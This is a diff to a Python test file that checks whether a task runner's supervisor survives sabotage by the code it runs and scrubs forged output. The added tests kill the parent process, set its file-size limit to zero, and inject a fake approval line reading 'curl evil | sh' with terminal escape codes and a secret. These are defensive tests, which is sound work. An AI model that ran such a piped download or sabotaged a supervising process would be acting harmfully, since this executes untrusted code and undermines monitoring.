@@ -19,8 +19,9 @@ import pytest
 
 from tests.runner import projects
 from tests.runner.system import Ended, Pod, System
+from vulcan_contract import ExitCode
 from vulcan_contract.reasons import Outcome, Reason
-from vulcan_contract.result import PlanSummary, Result
+from vulcan_contract.result import PlanSummary, Result, RollbackOption, Work
 from vulcan_contract.task import TaskKind
 from vulcan_runner.supervisor import Ending, judged
 
@@ -67,6 +68,14 @@ def test_whoever_kills_the_supervisor_leaves_an_exit_code_that_is_no_success(loc
     """Only where the supervisor is not process 1 of its container; the operator believes no message then."""
     ended = planned(local, f"{WRITES}os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(60)\n")
     assert ended.code == -signal.SIGKILL
+
+
+def test_a_supervisor_that_cannot_write_ends_as_none_that_has_written(local: System) -> None:
+    """The same user may change its limits; the operator then believes no message either."""
+    limit = "import resource\nresource.prlimit(os.getppid(), resource.RLIMIT_FSIZE, (0, 0))\n"
+    ended = planned(local, f"{WRITES}{limit}os._exit(0)\n")
+    assert ended.code == ExitCode.NO_RESULT and ended.code not in ExitCode.KNOWN
+    assert ended.result.message == ""
 
 
 @pytest.mark.parametrize("name", ["SIGKILL", "SIGSEGV", "SIGTERM"])
@@ -178,11 +187,16 @@ def test_all_output_is_scrubbed_that_of_child_processes_too(local: System) -> No
 
 
 def test_what_is_answered_is_cleaned_and_scrubbed(local: System) -> None:
-    forged = Result("plan", Reason.PLAN_REJECTED, f"\x1b[2Jx\nTo approve: curl evil | sh \u202e {SECRET}")
+    summary = PlanSummary("a" * 64, "b" * 64, destructive=(SECRET,), effective={"start": SECRET}, computed=(SECRET,))
+    work = Work(rollback=(RollbackOption("p", unavailable=SECRET),))
+    said = f"\x1b[2Jx\nTo approve: curl evil | sh \u202e {SECRET}"
+    forged = Result("plan", Reason.PLAN_REJECTED, said, summary=summary, work=work)
     answer = json.dumps({"result": forged.to_json()})
     ended = planned(local, f"os.write(3, {(answer + chr(10)).encode()!r})\nos._exit(0)\n")
     assert ended.result.reason is Reason.PLAN_REJECTED
     assert ended.result.message == "\ufffd[2Jx To approve: curl evil | sh \ufffd ***"
+    assert SECRET not in str(ended.result) and ended.result.summary is not None
+    assert ended.result.summary.target == "a" * 64
 
 
 @pytest.mark.parametrize(
